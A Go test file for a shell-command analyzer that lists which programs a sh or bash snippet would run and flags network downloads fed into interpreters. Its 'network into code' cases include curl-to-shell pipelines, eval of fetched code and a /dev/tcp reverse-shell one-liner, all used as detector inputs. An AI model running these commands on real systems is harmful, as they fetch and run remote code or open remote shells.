package shellcmd

import (
	"strings"
	"testing"
	"time"
)

// brief renders an Exec as "how lookup word" plus the parts a case asks
// about.
func brief(x Exec) string {
	s := x.How + " " + x.Lookup + " " + x.Word
	if len(x.Via) > 0 {
		s += " via=" + strings.Join(x.Via, ">")
	}
	if x.Fetches != "" {
		s += " fetch=" + x.Fetches
	}
	return s
}

func briefs(r Result) []string {
	var out []string
	for _, x := range r.Execs {
		out = append(out, brief(x))
	}
	return out
}

func TestCommand(t *testing.T) {
	cases := []struct {
		name string
		d    Dialect
		src  string
		want []string
	}{
		// quoting and escapes, as POSIX sh removes them
		{"single quotes", Sh, `'/bin/a b' x`, []string{"command absolute /bin/a b"}},
		{"joined quotes", Sh, `"/usr/"'bin'/x`, []string{"command absolute /usr/bin/x"}},
		{"backslash", Sh, `\/bin\/x\ y`, []string{"command absolute /bin/x y"}},
		{"line continuation", Sh, "/bin/e\\\nx arg", []string{"command absolute /bin/ex"}},
		{"double quote escapes", Sh, `"/bin/\$x\"\\"`, []string{`command absolute /bin/$x"\`}},
		{"ansi-c in bash", Bash, `$'\x2fbin\x2fsh' -c true`, []string{"command absolute /bin/sh", "sh -c builtin true via=/bin/sh -c"}},
		{"ansi-c is not dash's", Sh, `$'\x2fbin'`, []string{`command path-lookup $\x2fbin`}},
		{"comment", Sh, "/bin/a # /bin/b\n/bin/c", []string{"command absolute /bin/a", "command absolute /bin/c"}},
		{"hash inside a word", Sh, "/bin/a#b", []string{"command absolute /bin/a#b"}},

		// redirections are not words
		{"redirections", Sh, `>/tmp/o 2>&1 </dev/null /bin/x 3>>/tmp/l`, []string{"command absolute /bin/x"}},
		{"io number only before < or >", Sh, `/bin/x 2 >/dev/null`, []string{"command absolute /bin/x"}},
		{"redirection only", Sh, `>/tmp/x`, nil},
		{"dash &> is & then >", Sh, `/bin/x &> /tmp/o`, []string{"command absolute /bin/x"}},
		{"bash &>", Bash, `/bin/x &> /tmp/o; /bin/y`, []string{"command absolute /bin/x", "command absolute /bin/y"}},
		{"here-document", Sh, "/bin/x <<EOF\n/bin/not-run\nEOF\n/bin/y", []string{"command absolute /bin/x", "command absolute /bin/y"}},
		{"here-document with substitution", Sh, "/bin/x <<EOF\n$(/bin/runs)\nEOF", []string{"command absolute /bin/runs via=$(…)", "command absolute /bin/x"}},
		{"quoted here-document", Sh, "/bin/x <<'EOF'\n$(/bin/not-run)\nEOF", []string{"command absolute /bin/x"}},
		{"here-document <<- strips tabs", Sh, "/bin/x <<-EOF\n\t/bin/no\n\tEOF\n/bin/y", []string{"command absolute /bin/x", "command absolute /bin/y"}},

		// lists and compound commands
		{"operators", Sh, `/bin/a; /bin/b && /bin/c || /bin/d | /bin/e & /bin/f`, []string{"command absolute /bin/a", "command absolute /bin/b", "command absolute /bin/c", "command absolute /bin/d", "command absolute /bin/e", "command absolute /bin/f"}},
		{"subshell and group", Sh, `(/bin/a; { /bin/b; }) >/dev/null`, []string{"command absolute /bin/a", "command absolute /bin/b"}},
		{"if", Sh, `if /bin/c; then /bin/t; elif /bin/e; then /bin/u; else /bin/v; fi`, []string{"command absolute /bin/c", "command absolute /bin/t", "command absolute /bin/e", "command absolute /bin/u", "command absolute /bin/v"}},
		{"while and for", Sh, "while /bin/w; do /bin/x; done\nfor i in a b; do /bin/y $i; done", []string{"command absolute /bin/w", "command absolute /bin/x", "command absolute /bin/y"}},
		{"case", Sh, `case $1 in a|b) /bin/a;; (c) /bin/c ;; *) /bin/d; esac`, []string{"command absolute /bin/a", "command absolute /bin/c", "command absolute /bin/d"}},
		{"reserved words only first", Sh, `/bin/echo if then fi`, []string{"command absolute /bin/echo"}},
		{"function", Sh, `f() { /bin/in-f; }; f`, []string{"command absolute /bin/in-f via=function f", "command function f"}},
		{"bang", Sh, `! /bin/x`, []string{"command absolute /bin/x"}},
		{"bash [[ ]]", Bash, `[[ -x $(/bin/s) && a < b ]] && /bin/x`, []string{"command absolute /bin/s via=$(…)", "command absolute /bin/x"}},
		{"bash (( ))", Bash, `(( x = $(/bin/s) )); /bin/x`, []string{"command absolute /bin/s via=$(…)", "command absolute /bin/x"}},
		{"bash function keyword", Bash, `function g { /bin/in-g; }`, []string{"command absolute /bin/in-g via=function g"}},

		// substitutions run too
		{"command substitution", Sh, `/bin/x "$(/bin/a | /bin/b)" ` + "`/bin/c`", []string{"command absolute /bin/a via=$(…)", "command absolute /bin/b via=$(…)", "command absolute /bin/c via=`…`", "command absolute /bin/x"}},
		{"nested backquotes", Sh, "echo `echo \\`/bin/deep\\``", []string{"command absolute /bin/deep via=`…`>`…`", "command builtin echo via=`…`", "command builtin echo"}},
		{"substitution in parameter", Sh, `echo ${X:-$(/bin/d)}`, []string{"command absolute /bin/d via=$(…)", "command builtin echo"}},
		{"case in substitution", Sh, `echo $(case x in x) /bin/c;; esac)`, []string{"command absolute /bin/c via=$(…)", "command builtin echo"}},
		{"arithmetic is no substitution", Sh, `echo $((1+2))`, []string{"command builtin echo"}},
		{"dynamic command word", Sh, `$HOME/bin/x; ~/y; /usr/*/z`, []string{"command dynamic $HOME/bin/x", "command dynamic ~/y", "command dynamic /usr/*/z"}},
		{"bash brace expansion", Bash, `/usr/bin/{curl,wget} x`, []string{"command dynamic /usr/bin/{curl,wget}"}},

		// builtins and lookups
		{"builtins", Sh, `test -x /x && [ -e /y ] && true && echo && printf x && kill 1 && /bin/z`, []string{"command builtin test", "command builtin [", "command builtin true", "command builtin echo", "command builtin printf", "command builtin kill", "command absolute /bin/z"}},
		{"source is bash's", Sh, `source /etc/x`, []string{"command path-lookup source"}},
		{"dot", Sh, `. /etc/x; . rel`, []string{"command builtin .", "source absolute /etc/x", "command builtin .", "source path-lookup rel"}},
		{"bash source", Bash, `source /etc/x`, []string{"command builtin source", "source absolute /etc/x"}},
		{"eval", Sh, `eval "/bin/a;" /bin/b`, []string{"command builtin eval", "eval absolute /bin/a via=eval", "eval absolute /bin/b via=eval"}},
		{"trap", Sh, `trap '/bin/t' EXIT; trap - INT`, []string{"command builtin trap", "trap absolute /bin/t via=trap", "command builtin trap"}},
		{"exec", Sh, `exec /bin/x`, []string{"command builtin exec", "wrapper absolute /bin/x via=exec"}},
		{"command -v does not run", Sh, `command -v foo; command foo`, []string{"command builtin command", "command builtin command", "wrapper path-lookup foo via=command"}},
		{"relative", Sh, `./x; bin/y`, []string{"command relative ./x", "command relative bin/y"}},
		{"bash time", Bash, `time /bin/x`, []string{"command builtin time", "wrapper absolute /bin/x via=time"}},

		// wrappers
		{"nohup setsid", Sh, `nohup setsid /bin/x`, []string{"command path-lookup nohup", "wrapper path-lookup setsid via=nohup", "wrapper absolute /bin/x via=nohup>setsid"}},
		{"env", Sh, `env -i -u HOME A=1 B=2 /bin/x`, []string{"command path-lookup env", "wrapper absolute /bin/x via=env"}},
		{"env -S", Sh, `/usr/bin/env -S 'python3 -u' /x.py`, []string{"command absolute /usr/bin/env", "wrapper path-lookup python3 via=/usr/bin/env", "interpreter-script absolute /x.py via=/usr/bin/env>python3"}},
		{"timeout", Sh, `timeout -k 5 --signal=KILL 10s /bin/x`, []string{"command path-lookup timeout", "wrapper absolute /bin/x via=timeout"}},
		{"nice", Sh, `nice -n 5 /bin/x; nice -10 /bin/y`, []string{"command path-lookup nice", "wrapper absolute /bin/x via=nice", "command path-lookup nice", "wrapper absolute /bin/y via=nice"}},
		{"ionice", Sh, `ionice -c 3 /bin/x; ionice -p 1`, []string{"command path-lookup ionice", "wrapper absolute /bin/x via=ionice", "command path-lookup ionice"}},
		{"sudo", Sh, `sudo -u root -E X=1 /bin/x; sudo -l`, []string{"command path-lookup sudo", "wrapper absolute /bin/x via=sudo", "command path-lookup sudo"}},
		{"xargs", Sh, `xargs -0 -n 1 /bin/x; xargs -r`, []string{"command path-lookup xargs", "wrapper absolute /bin/x via=xargs", "command path-lookup xargs", "wrapper path-lookup echo via=xargs"}},
		{"stdbuf chrt taskset", Sh, `stdbuf -oL chrt -f 10 taskset -c 0 /bin/x`, []string{"command path-lookup stdbuf", "wrapper path-lookup chrt via=stdbuf", "wrapper path-lookup taskset via=stdbuf>chrt", "wrapper absolute /bin/x via=stdbuf>chrt>taskset"}},
		{"flock -c", Sh, `flock /tmp/l -c '/bin/x'`, []string{"command path-lookup flock", "wrapper absolute /bin/sh via=flock", "sh -c absolute /bin/x via=flock>flock -c"}},
		{"su -c", Sh, `su root -c '/bin/x'`, []string{"command path-lookup su", "wrapper dynamic  via=su", "sh -c absolute /bin/x via=su>su -c"}},
		{"su -s -c", Sh, `su -s /bin/sh -c 'make -s' nobody`, []string{"command path-lookup su", "wrapper absolute /bin/sh via=su", "sh -c path-lookup make via=su>su -c"}},
		{"find -exec", Sh, `find / -name x -exec /bin/x {} \; -execdir sh -c '/bin/y' \;`, []string{"command path-lookup find", "wrapper absolute /bin/x via=find -exec", "wrapper path-lookup sh via=find -execdir", "sh -c absolute /bin/y via=find -execdir>sh -c"}},
		{"busybox", Sh, `busybox sh -c /bin/x`, []string{"command path-lookup busybox", "wrapper applet sh via=busybox", "sh -c absolute /bin/x via=busybox>sh -c"}},
		{"dynamic wrapper options", Sh, `timeout $T /bin/x`, []string{"command path-lookup timeout", "wrapper absolute /bin/x via=timeout"}},

		// interpreters
		{"sh script", Sh, `sh /opt/x.sh arg; bash -x rel.sh`, []string{"command path-lookup sh", "interpreter-script absolute /opt/x.sh via=sh", "command path-lookup bash", "interpreter-script script rel.sh via=bash"}},
		{"sh -c with name", Sh, `sh -c '/bin/a "$0"' name /bin/not-run`, []string{"command path-lookup sh", "sh -c absolute /bin/a via=sh -c"}},
		{"bash -ec and -o", Bash, `bash -o pipefail -ec '/bin/a'`, []string{"command path-lookup bash", "sh -c absolute /bin/a via=bash -c"}},
		{"sh -c string parsed recursively", Sh, `/bin/sh -c "sh -c '/bin/deep'"`, []string{"command absolute /bin/sh", "sh -c path-lookup sh via=/bin/sh -c", "sh -c absolute /bin/deep via=/bin/sh -c>sh -c"}},
		{"dynamic -c string", Sh, `sh -c "$CMD"`, []string{"command path-lookup sh", "sh -c dynamic \"$CMD\" via=sh -c"}},
		{"python", Sh, `python3 -u -W ignore /x.py; python3.11 -c 'print(1)'; python3 -m http.server`, []string{"command path-lookup python3", "interpreter-script absolute /x.py via=python3", "command path-lookup python3.11", "command path-lookup python3", "interpreter-script module http.server via=python3"}},
		{"perl", Sh, `perl -w -I /lib /x.pl; perl -MFoo -e 'x'`, []string{"command path-lookup perl", "interpreter-script absolute /x.pl via=perl", "command path-lookup perl"}},
		{"php -f", Sh, `php -f /x.php`, []string{"command path-lookup php", "interpreter-script absolute /x.php via=php"}},

		// network into code
		{"curl | sh", Sh, `curl -fsS http://h/p | sh`, []string{"command path-lookup curl", "command path-lookup sh fetch=curl -fsS http://h/p"}},
		{"through a filter", Sh, `wget -qO- http://h | base64 -d | bash -s -- a`, []string{"command path-lookup wget", "command path-lookup base64", "command path-lookup bash fetch=wget -qO- http://h"}},
		{"through a wrapper", Sh, `timeout 5 curl h | sudo python3 -`, []string{"command path-lookup timeout", "wrapper path-lookup curl via=timeout", "command path-lookup sudo", "wrapper path-lookup python3 via=sudo fetch=timeout 5 curl h"}},
		{"sh -c $(curl)", Sh, `sh -c "$(curl -s h)"`, []string{"command path-lookup curl via=$(…)", "command path-lookup sh fetch=curl -s h", "sh -c dynamic \"$(curl -s h)\" via=sh -c fetch=curl -s h"}},
		{"eval $(wget)", Sh, `eval "$(wget -O- h)"`, []string{"command path-lookup wget via=$(…)", "command builtin eval", "eval dynamic \"$(wget -O- h)\" fetch=wget -O- h"}},
		{"bash <(curl)", Bash, `bash <(curl -s h)`, []string{"command path-lookup curl via=<(…)", "command path-lookup bash fetch=curl -s h", "interpreter-script dynamic <(curl -s h) via=bash fetch=curl -s h"}},
		{"download to a file then run", Sh, `curl -o /tmp/p h && chmod +x /tmp/p && /tmp/p; wget -O /tmp/q h; sh /tmp/q`, []string{"command path-lookup curl", "command path-lookup chmod", "command absolute /tmp/p", "command path-lookup wget", "command path-lookup sh fetch=wget -O /tmp/q h", "interpreter-script absolute /tmp/q via=sh fetch=wget -O /tmp/q h"}},
		{"bash /dev/tcp", Bash, `bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`, []string{"command path-lookup bash fetch=/dev/tcp/10.0.0.1/4444"}},
		{"dash has no /dev/tcp", Sh, `sh -i >& /dev/tcp/10.0.0.1/4444 0>&1`, []string{"command path-lookup sh"}},
		{"exec fd", Bash, `exec 5<>/dev/tcp/h/80; sh <&5 >&5`, []string{"command builtin exec", "command path-lookup sh fetch=/dev/tcp/h/80"}},
		{"here-string", Bash, `bash <<< "$(curl h)"`, []string{"command path-lookup curl via=$(…)", "command path-lookup bash fetch=curl h"}},
		{"curl | tee file is no code", Sh, `curl h | tee /tmp/x`, []string{"command path-lookup curl", "command path-lookup tee"}},

		// errors stop the shell at their line
		{"syntax error keeps earlier lines", Sh, "/bin/a\n/bin/b; if\n/bin/c", []string{"command absolute /bin/a", "command error "}},
		{"unterminated quote", Sh, `/bin/a "x`, []string{"command error "}},
		{"stray )", Sh, `/bin/a )`, []string{"command error "}},
		{"empty subshell", Sh, `()`, []string{"command error "}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got := briefs(Command(c.src, c.d, Options{}))
			if strings.Join(got, "\n") != strings.Join(c.want, "\n") {
				t.Errorf("%s\n got: %q\nwant: %q", c.src, got, c.want)
			}
		})
	}
}

func TestPATHAndDir(t *testing.T) {
	cases := []struct {
		src, word, path, dir string
	}{
		{`PATH=/opt/x:$PATH foo`, "foo", "/opt/x:" + DefaultPATH, "/tmp"},
		{`export PATH=/evil; foo`, "foo", "/evil", "/tmp"},
		{`(PATH=/a; foo2); foo`, "foo", DefaultPATH, "/tmp"},
		{`env PATH=/e foo`, "foo", "/e", "/tmp"},
		{`cd /opt && ./run`, "./run", DefaultPATH, "/opt"},
		{`cd sub; ./run`, "./run", DefaultPATH, "/tmp/sub"},
		{`cd "$D"; ./run`, "./run", DefaultPATH, ""},
		{`env -C /srv ./run`, "./run", DefaultPATH, "/srv"},
		{`command -p foo`, "foo", "/bin:/usr/bin", "/tmp"},
	}
	for _, c := range cases {
		var found bool
		for _, x := range Command(c.src, Sh, Options{Dir: "/tmp"}).Execs {
			if x.Word == c.word {
				found = true
				if x.PATH != c.path || x.Dir != c.dir {
					t.Errorf("%s: %s has PATH %q dir %q, want %q %q", c.src, c.word, x.PATH, x.Dir, c.path, c.dir)
				}
			}
		}
		if !found {
			t.Errorf("%s: no %s", c.src, c.word)
		}
	}
	r := Command(`chroot /srv/r /bin/x`, Sh, Options{})
	if x := r.Execs[len(r.Execs)-1]; x.Word != "/bin/x" || x.Root != "/srv/r" {
		t.Errorf("chroot: %+v", x)
	}
}

func TestArgv(t *testing.T) {
	got := briefs(Argv([]string{"/usr/bin/sh", "-c", "/usr/bin/curl -s http://h/x | sh"}, HowCommand, Options{}))
	want := []string{"command absolute /usr/bin/sh", "sh -c absolute /usr/bin/curl via=/usr/bin/sh -c", "sh -c path-lookup sh via=/usr/bin/sh -c fetch=/usr/bin/curl -s http://h/x"}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("got %q\nwant %q", got, want)
	}
	// no shell: "|" and "sh" are arguments of curl
	got = briefs(Argv([]string{"/usr/bin/curl", "-s", "http://h/x", "|", "sh"}, HowCommand, Options{}))
	if len(got) != 1 {
		t.Errorf("argv without a shell: %q", got)
	}
	got = briefs(Argv([]string{"/usr/bin/${x}"}, HowDirect, Options{}))
	if len(got) != 1 || !strings.HasPrefix(got[0], "direct dynamic") {
		t.Errorf("substituted argument: %q", got)
	}
}

// TestBounds: deep nesting, long lists and huge strings end within a
// bounded time, with the bound said.
func TestBounds(t *testing.T) {
	cases := map[string]string{
		"subshells":      strings.Repeat("(", 5000) + "/bin/x" + strings.Repeat(")", 5000),
		"substitutions":  strings.Repeat("$(", 5000) + "/bin/x" + strings.Repeat(")", 5000),
		"sh -c strings":  nestedShC(9),
		"braces":         strings.Repeat("{ ", 5000) + "/bin/x" + strings.Repeat("; }", 5000),
		"ifs":            strings.Repeat("if /bin/c; then ", 3000) + "/bin/x" + strings.Repeat("; fi", 3000),
		"many commands":  strings.Repeat("/bin/x;", 200000),
		"many words":     "/bin/x" + strings.Repeat(" a", 300000),
		"params":         strings.Repeat("${x:-", 5000) + strings.Repeat("}", 5000),
		"unterminated":   strings.Repeat("\"$(", 3000),
		"heredocs":       strings.Repeat("cat <<E\n", 2000) + strings.Repeat("x\nE\n", 2000),
		"backquotes":     strings.Repeat("`", 10001),
		"arith":          "$((" + strings.Repeat("(", 10000),
		"case":           "case x in " + strings.Repeat("a) /bin/x;; ", 50000) + "esac",
		"pipes and ands": strings.Repeat("/bin/a | /bin/b && ", 50000) + "/bin/c",
		// found by fuzzing: a scan per "[" or "*" of the word was quadratic
		"brackets":        strings.Repeat("[", 200000),
		"globs":           strings.Repeat("*", 200000),
		"braces in bash":  strings.Repeat("{", 200000),
		"process substs":  strings.Repeat("<(a)", 50000),
		"deep $(":         strings.Repeat("$(", 500000),
		"deep ${":         strings.Repeat("${", 500000),
		"deep quotes":     strings.Repeat("\"${x:-", 200000),
		"deep backquotes": strings.Repeat("`\\`", 100000),
	}
	for name, src := range cases {
		t.Run(name, func(t *testing.T) {
			start := time.Now()
			r := Command(src, Bash, Options{})
			if d := time.Since(start); d > 3*time.Second {
				t.Errorf("took %v", d)
			}
			if len(r.Execs) > 4097 {
				t.Errorf("%d execs listed past the bound", len(r.Execs))
			}
		})
	}
	r := Command(strings.Repeat("(", 200)+"/bin/x"+strings.Repeat(")", 200), Sh, Options{})
	if len(r.Execs) != 1 || !r.Execs[0].Limit {
		t.Errorf("deep nesting is not a limit row: %q", briefs(r))
	}
	r = Command(strings.Repeat("/bin/x;", 5000), Sh, Options{})
	if r.Cut == "" || len(r.Execs) != 4096 {
		t.Errorf("5000 commands: cut %q, %d listed", r.Cut, len(r.Execs))
	}
}

func nestedShC(n int) string {
	s := "/bin/x"
	for i := 0; i < n; i++ {
		s = "sh -c " + shQuote(s)
	}
	return s
}

func shQuote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }
